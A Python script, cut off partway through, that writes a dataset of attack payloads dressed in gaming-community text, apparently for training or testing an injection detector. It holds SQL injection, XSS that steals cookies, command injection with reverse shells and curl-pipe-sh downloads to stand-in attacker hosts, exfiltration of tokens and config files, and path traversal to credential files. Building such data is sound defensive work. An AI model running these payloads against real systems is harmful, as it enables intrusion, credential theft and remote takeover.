#!/usr/bin/env python3
"""Write attacks.jsonl: attacks carried in gaming and online-community text.

The benign corpus (make_benign.py) holds what a game's account and chat API,
a forum, a Discord-like chat with bots, a modding site, a speedrun
leaderboard, a stream overlay, guild pages, a bug tracker and a game-server
admin panel receive.  The attacks below wear the same clothes: a player name
or leaderboard filter concatenated into SQL, a BBCode `[url=javascript:…]`,
a chat line rendered in a stream overlay without escaping, a world name or
map name pasted into the shell line that starts a dedicated server, a demo,
replay or mod file path joined to a base directory, an avatar, emote or alert
sound URL fetched by the server, a bot welcome message rendered by a template
engine, a Lua/Python/JS mod snippet run without a sandbox, Log4Shell in
Minecraft chat, a mod config with `__proto__`, a save file that is
deserialized, a mod XML with an external entity, a leaderboard CSV export
with a formula, a MongoDB login filter, CR/LF in a Twitch IRC line or a
server log, and an LDAP or XPath lookup of guild members and achievements.
About one value in ten is a plain attack with no surrounding notation.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.  Attacker
hosts are reserved names and documentation addresses (attacker.example,
*.attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback, container and RFC 1918 addresses.  Secrets are
fake placeholders.

Standard library only, deterministic (random.Random(2602)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2602)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()
LITERAL_COUNTS = {}


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def ps_enc(s):
    """PowerShell -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


def printf_hex(s):
    return "".join("\\x%02x" % b for b in s.encode())


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def java_stream_head(cls):
    """Start of a Java serialization stream (magic, version, TC_OBJECT, TC_CLASSDESC, class name), base64."""
    name = cls.encode()
    raw = b"\xac\xed\x00\x05\x73\x72" + len(name).to_bytes(2, "big") + name + b"\x00\x00\x00\x00\x00\x00\x00\x01\x02\x00\x00\x78\x70"
    return b64(raw)


def take(cat, items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal in %s: %r" % (cat, v))
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals in %s (%d > %d)" % (cat, len(out), target))
    LITERAL_COUNTS[cat] = len(out)
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small for %s" % cat)
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


ATK = ["attacker.example", "203.0.113.66", "198.51.100.23", "exfil.attacker.example", "203.0.113.9",
       "c2.attacker.example"]
PLAYERS = ["Kestrel", "xX_Sn1p3r_Xx", "MossyKnight", "lumi_", "Healbot9000", "NoKeys_ok", "Thorin", "Kira"]


# ====================================================================== sqli
def sqli():
    lit = [
        ("player-search-quote-tautology", "xX_Sn1p3r_Xx' OR '1'='1"),
        ("leaderboard-category-union-accounts", "any%' UNION SELECT username,password_hash,email,NULL FROM accounts-- -"),
        ("leaderboard-platform-boolean-blind-substring", "PC' AND (SELECT SUBSTRING(password_hash,1,1) FROM accounts WHERE username='admin')='$'-- -"),
        ("run-time-filter-mysql-sleep", "1621.3 AND SLEEP(5)"),
        ("guild-search-pg-sleep-concat", "Iron Wolves'||pg_sleep(6)--"),
        ("match-id-mssql-waitfor", "88341; WAITFOR DELAY '0:0:7'--"),
        ("leaderboard-sort-orderby-case-blind", "(CASE WHEN (SELECT COUNT(*) FROM admins WHERE name LIKE 'a%')>0 THEN igt ELSE rta END)"),
        ("profile-bio-insert-subquery", "hi!', (SELECT password_hash FROM accounts WHERE id=1))-- -"),
        ("clan-tag-stacked-update-role", "[FR]'; UPDATE accounts SET role='admin' WHERE username='Kestrel';--"),
        ("item-search-mysql-extractvalue-error", "Dragon Scale' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))-- -"),
        ("item-search-mysql-updatexml-error", "Void' AND UPDATEXML(1,CONCAT(0x3a,(SELECT password FROM mysql.user LIMIT 1)),1)#"),
        ("steamid-lookup-pg-cast-error", "76561198000000000 AND 1=CAST((SELECT string_agg(username||':'||password_hash,',') FROM accounts) AS int)"),
        ("ticket-id-mssql-convert-error", "88341 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))"),
        ("mod-search-sqlite-master-union", "hd foliage' UNION SELECT name,sql,NULL FROM sqlite_master-- "),
        ("speedrun-runner-sqlite-randomblob-delay", "NoKeys_ok' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
        ("market-price-filter-mysql-benchmark", "500 OR BENCHMARK(40000000,SHA1('gg'))"),
        ("leaderboard-limit-union-api-key", "10 UNION ALL SELECT 1,steam_api_key,3,4 FROM server_settings"),
        ("mod-author-oracle-utl-http-oob", "Hexe' AND UTL_HTTP.REQUEST('http://exfil.attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--"),
        ("forum-search-mssql-xp-dirtree-oob", "'; EXEC master..xp_dirtree '\\\\203.0.113.9\\loot'--"),
        ("server-name-mssql-xp-cmdshell", "'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt'--"),
        ("mod-title-mysql-into-outfile-webshell", "x' UNION SELECT '<?php system($_GET[0]); ?>',2 INTO OUTFILE '/var/www/html/mods/s.php'-- -"),
        ("player-name-mysql-load-file", "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- -"),
        ("guild-id-pg-copy-to-program", "7; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/$(id|base64)'--"),
        ("bot-command-name-second-order-delete", "!coin'); DELETE FROM custom_commands WHERE ('1'='1"),
        ("registration-username-admin-comment", "admin'-- -"),
        ("login-password-or-limit", "' OR 1=1 LIMIT 1-- -"),
        ("run-notes-boolean-blind-db-length", "clean run' AND LENGTH(DATABASE())>5 AND 'a'='a"),
        ("region-filter-pg-json-rcon-blind", "euw' AND (SELECT settings->>'rcon_password' FROM servers LIMIT 1) LIKE 'a%'--"),
        ("achievement-id-union-information-schema", "-1 UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()"),
        ("clan-search-group-concat-dump", "0' UNION SELECT GROUP_CONCAT(username,0x3a,password_hash SEPARATOR 0x0a),2 FROM users-- -"),
        ("leaderboard-sort-mysql-if-sleep", "igt,IF(ASCII(SUBSTRING(USER(),1,1))>100,SLEEP(3),0)"),
        ("season-filter-mssql-stacked-insert-admin", "7;INSERT INTO admins(name) VALUES('Saltybeard')--"),
        ("item-id-union-hex-literals+hex", "0 UNION SELECT 1,0x61646d696e,password FROM users WHERE name=0x61646d696e"),
        ("player-name-mssql-plus-concat-subquery", "x'+(SELECT TOP 1 password_hash FROM accounts)+'"),
        ("match-history-pg-stacked-drop", "1; DROP TABLE match_history; --"),
        ("tournament-bracket-pg-chr-union", "0 UNION SELECT CHR(97)||CHR(100)||CHR(109), passwd FROM pg_shadow--"),
        ("server-browser-map-like-rcon-blind", "de_%' AND (SELECT rcon_password FROM servers WHERE id=1) LIKE 'c%' AND '%'='"),
        ("save-name-sqlite-attach-webshell", "slot1'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[1]);?>');--"),
        ("report-reason-insert-extra-row", "spam'),('1','admin','banned everyone','2024-01-01')-- -"),
        ("profile-bio-update-set-admin", "cool bio', is_admin=1, bio='x"),
        ("steam-login-mssql-having-error", "1' GROUP BY id HAVING 1=1--"),
        ("match-id-order-by-column-count", "88341 ORDER BY 12-- -"),
        ("ranking-mysql-rlike-error-blind", "1 AND (SELECT 1 RLIKE (SELECT IF(SUBSTR(password_hash,1,1)='$',0x28,0x31) FROM accounts LIMIT 1))"),
        ("mod-tag-version-comment-union+mysql-comment", "qol'/*!50000UNION*//*!50000SELECT*/ api_key,2 FROM developers-- -"),
        ("player-search-comments-as-spaces+sql-comment", "x'/**/OR/**/1=1/**/LIMIT/**/1#"),
        ("leaderboard-category-union+urlenc", q("any%' UNION SELECT email,password_hash FROM accounts-- -")),
        ("guild-name-tautology+double-urlenc", q(q("' OR 'x'='x"))),
        ("item-search-union+mixed-case", "x' uNiOn AlL sElEcT nUlL,pAsSwOrD_hAsH fRoM aCcOuNtS-- -"),
        ("run-filter-union+newlines", "1\nUNION\nSELECT\nemail,\npassword_hash\nFROM\naccounts"),
        ("twitch-name-pg-dollar-quote-union", "x' UNION SELECT $$owned$$, token FROM oauth_tokens--"),
        ("russian-forum-search-union", "вайп' UNION SELECT login,pass FROM users-- -"),
        ("japanese-player-name-tautology", "きつね丸' OR 'あ'='あ"),
        ("speedrun-seed-integer-or", "4729183 OR 1=1"),
        ("points-transfer-amount-subquery", "(SELECT balance FROM wallets WHERE user_id=1)"),
        ("clan-war-date-range-union", "2024-06-01' AND '2024-06-30' UNION SELECT name, rcon_password FROM servers-- -"),
        ("anticheat-log-id-pg-lo-import", "1; SELECT lo_import('/etc/passwd', 4242);--"),
        ("leaderboard-id-oracle-dbms-pipe-delay", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',6)"),
        ("forum-sort-mysql-extractvalue-subquery", "(SELECT EXTRACTVALUE(1,CONCAT(0x5c,(SELECT session_token FROM sessions LIMIT 1))))"),
        ("guild-bank-note-mssql-openrowset-oob", "x'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=FAKE','SELECT 1')--"),
        ("player-level-filter-sqlite-case-blind", "10 AND (CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)"),
        ("plain-sqli-tautology", "1' OR '1'='1'-- -"),
        ("plain-sqli-union-null", "' UNION SELECT NULL,NULL,NULL-- -"),
        ("plain-sqli-sleep", "' AND SLEEP(10)-- -"),
        ("plain-sqli-stacked-drop", "'; DROP TABLE users;--"),
        ("plain-sqli-waitfor", "';WAITFOR DELAY '0:0:5'--"),
        ("plain-sqli-pg-sleep", "1;SELECT pg_sleep(5)"),
        ("plain-sqli-numeric-or", "1 OR 1=1"),
    ]
    ctxs = ["player-search", "guild-search", "leaderboard-runner", "mod-search", "wts-item-search"]
    terms = PLAYERS + ["Iron Wolves", "Better Hauling", "Void Shard", "any%"]
    tails = ["' OR 'a'='a", "' OR 1=1-- -", "' AND 1=(SELECT COUNT(*) FROM accounts)-- -",
             "' UNION SELECT username,password_hash FROM accounts-- -", "') OR ('1'='1", "' AND SLEEP(4)#"]

    def gen():
        t = pick(tails)
        kind = "union" if "UNION" in t else ("sleep" if "SLEEP" in t else "tautology")
        return "%s-quote-%s" % (pick(ctxs), kind), pick(terms) + t
    return take("sqli", lit, gen, 74)


# ====================================================================== xss
def xss():
    lit = [
        ("leaderboard-player-name-img-onerror", "Kestrel<img src=x onerror=alert(document.domain)>"),
        ("forum-bbcode-url-javascript", "[url=javascript:fetch('//attacker.example/c?'+document.cookie)]patch notes[/url]"),
        ("forum-bbcode-img-attribute-breakout", "[img]https://i.imgexample.com/a.png\" onerror=\"alert(1)[/img]"),
        ("forum-bbcode-color-attribute-breakout", "[color=red\" onmouseover=\"alert(1)]hi[/color]"),
        ("markdown-link-javascript", "[click for the full build guide](javascript:alert(document.cookie))"),
        ("markdown-image-alt-attribute-breakout", "![boss\" onerror=\"alert(1)](x)"),
        ("stream-overlay-chat-svg-onload", "gg <svg onload=fetch('https://attacker.example/k?t='+localStorage.token)>"),
        ("guild-description-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.location='https://attacker.example/?'+parent.document.cookie</script>\"></iframe>"),
        ("mod-description-details-ontoggle", "<details open ontoggle=alert(1)><summary>Changelog</summary></details>"),
        ("run-notes-textarea-breakout", "clean run</textarea><script>alert(1)</script>"),
        ("patch-notes-title-breakout", "</title><script src=//attacker.example/x.js></script>"),
        ("bot-welcome-message-script-cookie", "Welcome <script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
        ("player-bio-href-javascript-tab+html-entities", "<a href=\"jav&#x09;ascript:alert(1)\">my twitch</a>"),
        ("chat-message-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        ("wiki-infobox-param-attribute-breakout", "{{Infobox weapon|name=Frostbite\" onmouseover=\"alert(1)\" x=\"}}"),
        ("guild-motd-marquee-onstart", "<marquee onstart=alert(1)>raid tonight</marquee>"),
        ("donation-message-overlay-img-onerror-deface", "thanks for the stream!! <img src=1 onerror=\"document.body.innerHTML='<h1>hacked</h1>'\">"),
        ("tts-message-video-source-onerror", "<video><source onerror=alert(1)></video>"),
        ("clan-tag-angularjs-expression", "{{constructor.constructor('alert(1)')()}}"),
        ("guild-page-vue2-template-expression", "{{_c.constructor('alert(1)')()}}"),
        ("mod-changelog-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("forum-signature-mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
        ("avatar-upload-svg-script", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><script>alert(document.domain)</script><circle r=\"30\" cx=\"32\" cy=\"32\"/></svg>"),
        ("server-motd-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
        ("profile-website-base-href", "<base href=\"https://attacker.example/\">"),
        ("guild-page-fake-login-form", "<form action=https://attacker.example/steal method=post><h3>Session expired, log in again</h3><input name=user><input type=password name=pass><button>Login</button></form>"),
        ("mod-description-css-import", "<style>@import 'https://attacker.example/keylog.css';</style>"),
        ("speedrun-video-link-javascript-url", "javascript:alert(document.cookie)//https://youtu.be/abc"),
        ("stream-alert-name-script-close", "</script><script>alert(1)</script>"),
        ("player-name-option-select-breakout", "</option></select><img src=x onerror=alert(1)>"),
        ("chat-emote-handler+js-unicode", "<img src=x onerror=\\u0061lert(1)>"),
        ("bio-handler-decimal-entities+html-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
        ("forum-post-nested-strip+nested-tags", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("chat-message-script+mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
        ("player-name-reflected-svg+urlenc", q("<svg/onload=alert(1)>")),
        ("forum-bbcode-url-data-html+base64", "[url=data:text/html;base64," + b64("<script>alert(document.domain)</script>") + "]free skins[/url]"),
        ("markdown-link-javascript-colon+html-entities", "[wiki](javascript&#58;alert(1))"),
        ("zalgo-name-img-onerror", "Z\u0338a\u0336l\u0337g\u0334o\u0335<img src=x onerror=alert(1)>"),
        ("japanese-guild-name-svg-onload", "月光騎士団<svg onload=alert('xss')>"),
        ("russian-chat-iframe-javascript", "привет <iframe src=\"javascript:alert(1)\"></iframe>"),
        ("emoji-status-input-autofocus", "🎮🔥 <input autofocus onfocus=alert(1)>"),
        ("leaderboard-comment-object-data-javascript", "<object data=\"javascript:alert(1)\"></object>"),
        ("bug-report-stacktrace-admin-csrf-script", "NullReferenceException at Inventory.cs:88\n<script>fetch('/api/admin/users',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('//attacker.example/',{method:'POST',body:t}))</script>"),
        ("mod-readme-svg-use-data-href", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>"),
        ("overlay-goal-text-audio-onerror", "Sub goal 50/100 <audio src=x onerror=alert(1)>"),
        ("bot-preview-js-string-breakout", "';alert(document.cookie);//"),
        ("twitch-name-json-script-block-breakout", "\"}</script><script>alert(1)</script>"),
        ("patch-notes-markdown-html-atob+base64", "## Hotfix 1.0.8\n- fixed crash\n<img src=\"x\" onerror=\"eval(atob('" + b64("alert(document.cookie)") + "'))\">"),
        ("player-name-attribute-breakout-autofocus", "\" autofocus onfocus=\"alert(1)"),
        ("clan-website-href-javascript+newline", "java\nscript:alert(1)"),
        ("forum-poll-button-formaction", "<form><button formaction=javascript:alert(1)>vote</button></form>"),
        ("guild-recruit-svg-a-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">apply here</text></a></svg>"),
        ("rp-post-asterisks-img-onerror", "*draws sword* <img src=x onerror=alert(1)> *attacks*"),
        ("wiki-external-link-javascript", "[javascript:alert(1) Drop rates]"),
        ("guild-banner-style-attr-breakout-onanimationstart", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(1)\">⚔️</b>"),
        ("bbcode-quote-author-breakout", "[quote=\"Grimbold\"><img src=x onerror=alert(1)>\"]lol[/quote]"),
        ("plain-xss-script", "<script>alert(1)</script>"),
        ("plain-xss-img", "<img src=x onerror=alert(1)>"),
        ("plain-xss-svg", "<svg/onload=alert(1)>"),
        ("plain-xss-body-onload", "<body onload=alert(1)>"),
        ("plain-xss-attr-breakout", "\"><script>alert(1)</script>"),
        ("plain-xss-javascript-uri", "javascript:alert(document.domain)"),
    ]
    ctxs = ["leaderboard-name", "chat-line-overlay", "guild-motd", "mod-title", "forum-signature"]
    vecs = [("img-onerror", "<img src=/%d onerror=alert(%d)>"), ("svg-onload", "<svg onload=alert(%d)//%d>"),
            ("video-poster-onerror", "<video poster=x%d onerror=alert(%d)>"), ("body-onpageshow", "<body onpageshow=alert(%d)//%d>")]
    pre = ["gg ", "Kestrel ", "⚔️ ", "<3 ", "raid 20:00 ", ""]

    def gen():
        name, tpl = pick(vecs)
        return "%s-%s" % (pick(ctxs), name), pick(pre) + tpl % (RNG.randint(1, 99), RNG.randint(1, 99))
    return take("xss", lit, gen, 76)


# ====================================================================== cmdi
def cmdi():
    lit = [
        ("server-ping-host-semicolon-curl-sh", "192.0.2.44; curl -s http://attacker.example/p.sh | sh"),
        ("server-query-port-subshell-wget", "27015$(wget -qO- http://203.0.113.66/r|sh)"),
        ("rcon-panel-map-name-backticks", "de_dust2`id > /tmp/.x`"),
        ("srcds-hostname-quote-breakout-reverse-shell", "My Server\" +map de_dust2; nc -e /bin/sh 203.0.113.9 4444; echo \""),
        ("valheim-world-name-and-exfil-config", "Midgard && curl -d @/home/steam/.steam/config/config.vdf http://attacker.example/"),
        ("valheim-password-or-reverse-shell", "x || bash -c 'bash -i >& /dev/tcp/203.0.113.9/9001 0>&1'"),
        ("minecraft-memory-env-newline", "6G\nbash -c 'cat /data/ops.json > /dev/tcp/198.51.100.23/80'"),
        ("steamcmd-app-id-pipe-nc", "730 | nc 203.0.113.66 9001 -e /bin/bash"),
        ("world-backup-name-semicolon-rm", "world-2024-06-01.tar.gz; rm -rf /srv/mc/world"),
        ("screen-session-name-subshell", "mc$(curl attacker.example/s|sh)"),
        ("mod-archive-filename-unzip-quote-breakout", "better_hauling.zip\"; curl http://attacker.example/m -o /tmp/m; chmod +x /tmp/m; /tmp/m; echo \".zip"),
        ("discord-bot-ping-host-semicolon", "/ping host:1.1.1.1;cat /app/.env"),
        ("stream-bot-song-request-ytdl-exec-arg", "--exec 'curl attacker.example/y|sh' https://youtu.be/dQw4w9WgXcQ"),
        ("clip-title-ffmpeg-output-subshell", "epic clutch $(id).mp4"),
        ("mod-git-url-upload-pack-arg", "--upload-pack=touch /tmp/pwned"),
        ("mod-git-url-ext-transport", "ext::sh -c touch% /tmp/pwned"),
        ("mod-repo-ssh-proxycommand+ifs", "ssh://-oProxyCommand=curl${IFS}attacker.example/s|sh/x"),
        ("demo-archive-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upl/demo.dem"),
        ("map-sync-rsync-e-arg", "-e sh -c 'id>/tmp/r' x:/maps"),
        ("avatar-fetch-curl-output-arg", "-o /var/www/html/shell.php http://attacker.example/s.txt"),
        ("texture-convert-filename-pipe-prefix", "|curl -s attacker.example/i|sh"),
        ("log-parser-perl-open-pipe", "latest.log|nc 203.0.113.9 4444 -e /bin/sh|"),
        ("server-log-grep-pattern-quote-breakout", "Kestrel\" /dev/null; cat /etc/shadow; grep \"x"),
        ("kill-feed-awk-program-system", "0 {system(\"wget -qO- 198.51.100.23/k|sh\")} $0 ~ /x/"),
        ("server-properties-sed-motd-e-command", "Welcome/;1e curl attacker.example/s|sh;#"),
        ("rcon-command-newline-reverse-shell", "status\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("fivem-resource-name-semicolon", "mapmanager; curl -fsSL http://c2.attacker.example/fx|bash"),
        ("docker-container-name-subshell-exfil", "mc-$(cat /root/.docker/config.json|base64 -w0|curl -d @- attacker.example)"),
        ("windows-server-ip-ampersand-iex", "192.0.2.44 & powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
        ("windows-server-name-certutil+caret", "Arena | c^e^r^t^u^t^i^l -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe"),
        ("windows-save-folder-net-user-add", "Saves\" & net user gamer P4ss_FAKE! /add & net localgroup administrators gamer /add & \""),
        ("windows-backup-path-powershell+base64", "world & powershell -enc " + ps_enc("iwr http://attacker.example/b -OutFile $env:TEMP\\b.exe; & $env:TEMP\\b.exe")),
        ("server-host-semicolon+ifs", "192.0.2.44;cat${IFS}/etc/passwd${IFS}|${IFS}nc${IFS}203.0.113.9${IFS}80"),
        ("world-name-semicolon+brace-expansion", "Midgard;{curl,-s,attacker.example/b}|{sh,}"),
        ("player-name-semicolon+quote-split", "Steve;c'u'r\"l\" attacker.example/q|s''h"),
        ("map-name-semicolon+backslash-split", "cp_badlands;w\\g\\e\\t -qO- 203.0.113.66/w|sh"),
        ("server-host-subshell-printf+hex", "x;$(printf '" + printf_hex("cat /etc/passwd") + "')"),
        ("server-name-semicolon-pipe+base64", "srv;echo " + b64("curl http://attacker.example/b64|sh") + "|base64 -d|sh"),
        ("query-port-semicolon+var-split", "27015;a=cu;b=rl;$a$b attacker.example/v|sh"),
        ("server-browser-user-agent-shellshock", "() { :;}; /bin/bash -c 'curl http://attacker.example/ss'"),
        ("mod-ci-pr-title-run-step-breakout", "feat: new sword\"; curl -d \"$MOD_SIGNING_KEY\" https://attacker.example/k; echo \""),
        ("mod-ci-branch-name-subshell+brace-expansion", "fix/$({curl,-sSfL,attacker.example/ci}|sh)"),
        ("server-restart-cron-schedule-newline", "0 5 * * *\n* * * * * root curl -s attacker.example/c|sh"),
        ("demo-cleanup-find-name-exec", "*.dem -exec sh -c 'id>/tmp/f' {} +"),
        ("save-export-zip-testcmd-arg", "saves.zip -T -TT 'sh -c id>/tmp/z'"),
        ("mod-mirror-wget-post-file-arg", "--post-file=/home/steam/.steam/config/loginusers.vdf http://attacker.example/"),
        ("clan-mail-sendmail-X-arg", "admin@example-clan.net -X /var/www/html/log.php -OQueueDirectory=/tmp"),
        ("japanese-server-name-semicolon", "日本鯖#1; curl http://attacker.example/jp | sh"),
        ("german-world-name-newline-wget", "Welt_Mittelerde\nwget -q -O /tmp/w 203.0.113.9/w && sh /tmp/w"),
        ("server-motd-semicolon+urlenc", q("hello; id; uname -a")),
        ("tickrate-field-backticks+double-urlenc", q(q("128`id`"))),
        ("workshop-id-and-busybox-nc", "2871234567 && busybox nc 198.51.100.23 4444 -e sh"),
        ("save-name-redirect-authorized-keys", "slot1 > /dev/null; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKE attacker >> /home/steam/.ssh/authorized_keys"),
        ("rcon-say-message-backticks", "Map vote in 2 min `curl -s attacker.example/say|sh`"),
        ("mod-ci-commit-message-run-step-subshell", "bump version $(curl -s http://attacker.example/t?k=$GITHUB_TOKEN)"),
        ("server-name-windows-pipe-type-config", "EU#1 | type C:\\srcds\\csgo\\cfg\\server.cfg > C:\\inetpub\\wwwroot\\s.txt"),
        ("plain-cmdi-semicolon-id", "; id"),
        ("plain-cmdi-pipe-passwd", "| cat /etc/passwd"),
        ("plain-cmdi-and-whoami", "&& whoami"),
        ("plain-cmdi-subshell-sleep", "$(sleep 10)"),
        ("plain-cmdi-backticks-uname", "`uname -a`"),
        ("plain-cmdi-windows-ampersand", "& dir C:\\"),
        ("plain-cmdi-newline-id", "\nid\n"),
    ]
    ctxs = [("server-host", ["192.0.2.44", "play.example-clan.net", "10.0.0.12"]),
            ("world-name", ["Midgard", "Dedicated", "survival_s3"]),
            ("map-name", ["de_mirage", "koth_viaduct", "Arena_02"])]
    seps = [("semicolon", ";%s"), ("and", " && %s"), ("or", " || %s"), ("subshell", "$(%s)"), ("backticks", "`%s`"), ("pipe", "|%s")]
    cmds = ["curl -s http://%s/x|sh", "wget -qO- %s/w|sh", "nc %s 4444 -e /bin/sh", "ping -c 3 %s"]

    def gen():
        c, vals = pick(ctxs)
        sname, sep = pick(seps)
        return "%s-%s" % (c, sname), pick(vals) + sep % (pick(cmds) % pick(ATK))
    return take("cmdi", lit, gen, 76)


# ====================================================================== traversal
def traversal():
    lit = [
        ("mod-download-dotdot-passwd", "../../../../etc/passwd"),
        ("map-preview-name-dotdot-server-cfg", "../../cfg/server.cfg"),
        ("demo-download-dotdot-ssh-key", "../../../home/steam/.ssh/id_rsa"),
        ("log-viewer-absolute-shadow", "/etc/shadow"),
        ("log-viewer-proc-environ", "/proc/self/environ"),
        ("screenshot-viewer-windows-dotdot-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
        ("save-upload-zip-slip-entry", "../../../../var/www/html/uploads/shell.php"),
        ("mod-archive-zip-slip-windows-startup", "..\\..\\..\\Users\\Public\\Start Menu\\Programs\\Startup\\update.bat"),
        ("locale-file-lang-dotdot+null-byte", "../../../../../../etc/hosts%00.json"),
        ("texture-pack-path+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("avatar-path-secrets+double-urlenc", "%252e%252e%252f%252e%252e%252fapp%252fconfig%252fsecrets.yml"),
        ("skin-file-path+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        ("alert-sound-file+nested-strip", "....//....//....//etc/passwd"),
        ("overlay-theme-path+urlenc-backslash", "..%5c..%5c..%5cappsettings.json"),
        ("replay-file-path+mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
        ("emote-file-path+percent-u", "..%u2215..%u2215..%u2215etc%u2215passwd"),
        ("world-download-dotdot-server-properties", "../server.properties"),
        ("world-download-dotdot-ops-json", "world/../../ops.json"),
        ("valheim-world-file-dotdot-adminlist", "../../.config/unity3d/IronGate/Valheim/adminlist.txt"),
        ("fivem-resource-file-dotdot-server-cfg", "../../../server.cfg"),
        ("bepinex-config-view-dotdot-steam-users", "../../../../../.steam/steam/config/loginusers.vdf"),
        ("crash-log-viewer-windows-sam", "C:\\Windows\\System32\\config\\SAM"),
        ("ark-config-download-dotdot-gameusersettings", "..\\..\\ShooterGame\\Saved\\Config\\WindowsServer\\GameUserSettings.ini"),
        ("log-viewer-proc-cmdline", "/proc/self/cmdline"),
        ("guild-theme-include-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
        ("mod-upload-path-dotdot-in-middle", "/var/www/mods/uploads/../../../../etc/passwd"),
        ("log-viewer-proc-fd", "/proc/self/fd/3"),
        ("forum-attachment-dotdot-env", "../../.env"),
        ("bug-report-attach-docker-secret", "../../../../run/secrets/db_password"),
        ("save-slot-k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("crash-dump-path-tomcat-semicolon", "..;/..;/WEB-INF/web.xml"),
        ("replay-id-dot-only+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/group"),
        ("mod-manifest-icon-path+json-unicode", "\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"),
        ("autoexec-include-dotdot-steam-config", "../../../../home/steam/Steam/config/config.vdf"),
        ("gmod-addon-file-dotdot-sv-db", "../../../garrysmod/sv.db"),
        ("japanese-save-path-dotdot", "../../../セーブ/../../etc/passwd"),
        ("minecraft-log-viewer-dotdot-whitelist-absolute", "/srv/mc/logs/../../../root/.bash_history"),
        ("spray-image-windows-dotdot-urlenc+urlenc", "..%5C..%5C..%5C..%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts"),
        ("plain-traversal-passwd", "../../etc/passwd"),
        ("plain-traversal-windows-boot-ini", "..\\..\\boot.ini"),
        ("plain-traversal-shadow+urlenc", "..%2f..%2f..%2fetc%2fshadow"),
        ("plain-traversal-absolute-hosts", "/etc/hosts"),
        ("plain-traversal-win-ini", "C:\\Windows\\win.ini"),
    ]
    ctxs = ["mod-download", "replay-download", "skin-file", "demo-file", "map-preview"]
    targets = ["etc/passwd", "home/steam/.bash_history", "srv/mc/ops.json", "root/.ssh/authorized_keys",
               "home/steam/serverfiles/cfg/server.cfg", "etc/nginx/nginx.conf"]

    def gen():
        d = RNG.randint(3, 8)
        sep = pick(["/", "\\"])
        tgt = pick(targets)
        v = (".." + sep) * d + (tgt.replace("/", "\\") if sep == "\\" else tgt)
        return "%s-dotdot%s" % (pick(ctxs), "-backslash" if sep == "\\" else ""), v
    return take("traversal", lit, gen, 52)


# ====================================================================== ssrf
def ssrf():
    md = "169.254.169.254"
    lit = [
        ("avatar-url-aws-metadata-credentials", "http://%s/latest/meta-data/iam/security-credentials/" % md),
